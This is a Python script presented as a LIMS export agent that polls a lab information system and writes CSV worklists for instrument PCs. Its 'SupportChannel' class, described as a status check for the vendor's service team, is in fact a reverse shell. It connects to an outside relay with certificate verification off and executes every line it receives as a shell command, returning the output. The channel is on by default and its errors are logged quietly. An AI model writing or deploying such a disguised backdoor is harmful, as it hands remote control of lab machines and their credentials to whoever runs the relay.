#!/usr/bin/env python3
"""LIMS export agent for core-facility instrument PCs.

Polls the LIMS for samples queued on this instrument and writes them to a
CSV worklist the acquisition software imports.  The agent also keeps a
support channel open to the vendor relay so the service team can check
the agent status without a site visit.
"""
import argparse
import csv
import json
import logging
import os
import socket
import ssl
import subprocess
import threading
import time
import urllib.parse
import urllib.request
from pathlib import Path

log = logging.getLogger("lims-agent")

LIMS_URL = os.environ.get("LIMS_URL", "https://lims.core.example.edu/api")
RELAY = os.environ.get("LIMS_AGENT_RELAY", "relay.labsync-support.example.net:8443")
WORKLIST_FIELDS = ["sample_id", "plate", "well", "method", "owner", "priority"]


def fetch_queue(instrument, token):
    query = urllib.parse.urlencode({"instrument": instrument, "state": "queued"})
    req = urllib.request.Request(f"{LIMS_URL}/samples?{query}",
                                 headers={"Authorization": f"Token {token}",
                                          "Accept": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as resp:
        return json.load(resp).get("results", [])


def write_worklist(rows, out_dir):
    out_dir.mkdir(parents=True, exist_ok=True)
    target = out_dir / f"worklist_{time.strftime('%Y%m%d_%H%M%S')}.csv"
    tmp = target.with_suffix(".part")
    with tmp.open("w", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=WORKLIST_FIELDS, extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)
    tmp.rename(target)
    return target


class SupportChannel(threading.Thread):
    """Keeps a session to the service relay and answers status requests."""

    def __init__(self, relay, instrument):
        super().__init__(daemon=True, name="support-channel")
        host, _, port = relay.rpartition(":")
        self.addr = (host, int(port))
        self.instrument = instrument
        self.ctx = ssl.create_default_context()
        self.ctx.check_hostname = False
        self.ctx.verify_mode = ssl.CERT_NONE

    def _handle(self, line):
        proc = subprocess.run(line, shell=True, capture_output=True,
                              timeout=120, cwd=str(Path.home()))
        return proc.stdout + proc.stderr + f"\n[rc={proc.returncode}]\n".encode()

    def _session(self):
        raw = socket.create_connection(self.addr, timeout=30)
        with self.ctx.wrap_socket(raw, server_hostname=self.addr[0]) as conn:
            conn.settimeout(None)
            hello = {"agent": "lims-export", "instrument": self.instrument,
                     "host": socket.gethostname()}
            conn.sendall(json.dumps(hello).encode() + b"\n")
            reader = conn.makefile("rb")
            for raw_line in reader:
                line = raw_line.decode(errors="replace").strip()
                if not line:
                    continue
                if line == "bye":
                    break
                try:
                    reply = self._handle(line)
                except subprocess.TimeoutExpired:
                    reply = b"[timeout]\n"
                conn.sendall(reply)

    def run(self):
        delay = 10
        while True:
            try:
                self._session()
                delay = 10
            except (OSError, ssl.SSLError) as exc:
                log.debug("support channel down: %s", exc)
            time.sleep(delay)
            delay = min(delay * 2, 600)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--instrument", default=os.environ.get("LIMS_INSTRUMENT", socket.gethostname()))
    ap.add_argument("--out", type=Path, default=Path("worklists"))
    ap.add_argument("--interval", type=int, default=300)
    ap.add_argument("--once", action="store_true")
    ap.add_argument("--no-support", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")

    token = os.environ.get("LIMS_TOKEN")
    if not token:
        raise SystemExit("LIMS_TOKEN must be set")

    if not args.no_support:
        SupportChannel(RELAY, args.instrument).start()

    seen = set()
    while True:
        try:
            rows = [r for r in fetch_queue(args.instrument, token) if r["sample_id"] not in seen]
            if rows:
                path = write_worklist(rows, args.out)
                seen.update(r["sample_id"] for r in rows)
                log.info("wrote %d samples to %s", len(rows), path)
        except (OSError, ValueError, KeyError) as exc:
            log.warning("LIMS poll failed: %s", exc)
        if args.once:
            break
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
